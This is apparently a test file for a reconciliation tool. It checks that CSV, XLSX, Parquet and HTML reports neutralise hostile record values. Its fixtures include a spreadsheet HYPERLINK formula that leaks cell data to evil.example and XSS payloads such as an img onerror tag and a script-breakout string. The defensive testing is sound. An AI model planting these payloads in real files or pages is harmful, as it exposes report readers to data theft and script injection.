// Hostile values in every format: spreadsheet formulas, script and markup injections, quotes, line
// breaks, right-to-left text and emoji in record values and record ids. CSV and XLSX cells that a
// spreadsheet would run are neutralised and give back the stored value; negative amounts stay
// number cells; Parquet keeps the stored values as they are; the HTML shows them only as text.
import { readFile } from 'node:fs/promises';
import { join } from 'node:path';
import { DuckDBInstance } from '@duckdb/node-api';
import ExcelJS from 'exceljs';
import { parseFile } from 'fast-csv';
import { describe, expect, it } from 'vitest';
import { neutraliseCell, restoreCell } from '../../reports/neutralise.js';
import { valueText } from '../../reports/report-model.js';
import { csvTenantConfig } from '../reconcilers/helpers.js';
import { HOSTILE, htmlData, reportWorld } from './report-world.js';

const world = reportWorld('rep_hostile');
const T = 'hostile';
const FORMULA = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;
/** Record ids are user data too. */
const EVIL_CRM_ID = 'c"><img src=x onerror=alert(3)>';
const EVIL_ERP_ID = 'e</script><script>alert(4)</script>';

async function readCsv(file: string): Promise<Record<string, string>[]> {
  const rows: Record<string, string>[] = [];
  await new Promise<void>((resolve, reject) => {
    parseFile(file, { headers: true })
      .on('data', (r: Record<string, string>) => rows.push(r))
      .on('error', reject)
      .on('end', () => resolve());
  });
  return rows;
}

describe('neutraliseCell', () => {
  it.each([
    ['=1+1', "'=1+1"],
    ['+1', "'+1"],
    ['-cmd', "'-cmd"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=x', "'\t=x"],
    ['\r=x', "'\r=x"],
    ["'=x", "''=x"],
    ["'plain", "'plain"],
    ['-12.50', '-12.50'],
    ['12', '12'],
    ['-', "'-"],
    ['plain', 'plain'],
    ['', ''],
  ])('%j → %j and back', (stored, cell) => {
    expect(neutraliseCell(stored)).toBe(cell);
    expect(restoreCell(cell)).toBe(stored);
  });
});

describe('hostile values in every report format', () => {
  it('round-trip harmlessly', async () => {
    const config = csvTenantConfig(T, { materiality: { threshold: '100' } });
    await world.stage(T, 'crm', 'customer', [
      ...HOSTILE.map((v, i) => ({
        id: `c${i}`,
        erp_ref: `e${i}`,
        name: v,
        legal_name: `plain ${i}`,
        currency: 'USD',
      })),
      { id: EVIL_CRM_ID, erp_ref: EVIL_ERP_ID, name: 'evil ids', currency: 'USD', credit_limit: '-1500.50' },
    ]);
    await world.stage(T, 'erp', 'customer', [
      ...HOSTILE.map((v, i) => ({ id: `e${i}`, name: `plain ${i}`, legal_name: v, currency: 'USD' })),
      { id: EVIL_ERP_ID, name: 'evil ids', currency: 'USD', credit_limit: '-1000.00' },
    ]);
    const run = await world.reconcile(T, config);
    const res = await world.report(T, run.runId);
    const live = await world.live(T);
    const byId = new Map(live.map((d) => [d.id, d]));
    // The hostile values reached the control tables as they were written.
    const stored = new Set(live.flatMap((d) => [d.crm_value, d.erp_value]));
    for (const v of [
      '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
      '<script>alert("x")</script>',
      "'=already quoted",
    ])
      expect(stored).toContain(v);
    const money = live.find((d) => d.field === 'credit_limit')!;
    expect(money).toMatchObject({ crm_value: '-1500.5', money_impact: '500.5', material: true });

    // CSV: no cell a spreadsheet would run; each gives back the stored value.
    const csv = await readCsv(join(res.dir, 'discrepancies.csv'));
    expect(csv).toHaveLength(live.length);
    for (const r of csv) {
      for (const cell of Object.values(r)) if (!NUMBER.test(cell)) expect(cell).not.toMatch(FORMULA);
      const d = byId.get(r.id!)!;
      expect(restoreCell(r.crm_value!)).toBe(valueText(d.crm_value));
      expect(restoreCell(r.erp_value!)).toBe(valueText(d.erp_value));
      expect(restoreCell(r.match_key!)).toBe(d.match_key);
    }
    const evilRow = csv.find((r) => r.field === 'credit_limit')!;
    expect(evilRow.crm_value).toBe('-1500.5');
    expect(evilRow.crm_id).toBe(EVIL_CRM_ID);
    for (const a of await readCsv(join(res.dir, 'actions.csv')))
      for (const cell of Object.values(a)) if (!NUMBER.test(cell)) expect(cell).not.toMatch(FORMULA);

    // XLSX: the same, and a negative amount is a number cell in the currency's format.
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(res.dir, 'report.xlsx'));
    const ws = wb.getWorksheet('customer')!;
    const cols = (ws.getRow(1).values as unknown[]).slice(1) as string[];
    const col = (name: string) => cols.indexOf(name) + 1;
    let checked = 0;
    ws.eachRow((row, n) => {
      if (n === 1) return;
      row.eachCell((cell) => {
        if (typeof cell.value === 'string') expect(cell.value).not.toMatch(FORMULA);
      });
      const d = byId.get(String(row.getCell(col('id')).value))!;
      const crm = row.getCell(col('crm_value'));
      if (d.field === 'credit_limit') {
        expect(crm.value).toBe(-1500.5);
        expect(crm.numFmt).toBe('#,##0.00 "USD"');
        expect(row.getCell(col('money_impact')).value).toBe(500.5);
      } else {
        // XML turns a carriage return into a line feed when the file is read (XLSX cannot keep
        // one): the cell is the neutralised value with that one change; CSV and Parquet keep it.
        const text = (v: unknown) => (v === null || v === undefined ? '' : String(v));
        const asXml = (v: unknown) => neutraliseCell(valueText(v)).replace(/\r\n?/g, '\n');
        expect(text(crm.value)).toBe(asXml(d.crm_value));
        expect(text(row.getCell(col('erp_value')).value)).toBe(asXml(d.erp_value));
      }
      checked++;
    });
    expect(checked).toBe(live.length);

    // Parquet: the stored values themselves (data, not a spreadsheet).
    const instance = await DuckDBInstance.create(':memory:');
    const conn = await instance.connect();
    const pq = (
      await conn.runAndReadAll(
        `SELECT id::VARCHAR AS id, crm_id, erp_id, crm_value, erp_value FROM read_parquet('${join(res.dir, 'discrepancies.parquet')}')`,
      )
    ).getRowObjectsJS() as {
      id: string;
      crm_id: string | null;
      crm_value: string | null;
      erp_value: string | null;
    }[];
    conn.closeSync();
    instance.closeSync();
    expect(pq).toHaveLength(live.length);
    for (const r of pq) {
      const d = byId.get(r.id)!;
      expect(r.crm_value === null ? null : JSON.parse(r.crm_value)).toEqual(d.crm_value ?? null);
      expect(r.erp_value === null ? null : JSON.parse(r.erp_value)).toEqual(d.erp_value ?? null);
      expect(r.crm_id).toBe(d.crm_id);
    }

    // HTML: the data block gives back every value; nothing became markup.
    const html = await readFile(join(res.dir, 'report.html'), 'utf8');
    expect(html.match(/<script/gi)).toHaveLength(2);
    expect(html).not.toMatch(/<img/i);
    expect(html).not.toMatch(/<!--/);
    expect(html).toContain('c&quot;&gt;&lt;img src=x onerror=alert(3)&gt;');
    const page = await htmlData(join(res.dir, 'report.html'));
    const c = (name: string) => page.discrepancies.columns.indexOf(name);
    for (const row of page.discrepancies.rows) {
      const d = byId.get(row[c('id')]!)!;
      expect(row[c('crm_value')]).toBe(valueText(d.crm_value));
      expect(row[c('erp_value')]).toBe(valueText(d.erp_value));
      expect(row[c('match_key')]).toBe(d.match_key);
    }
  });
});
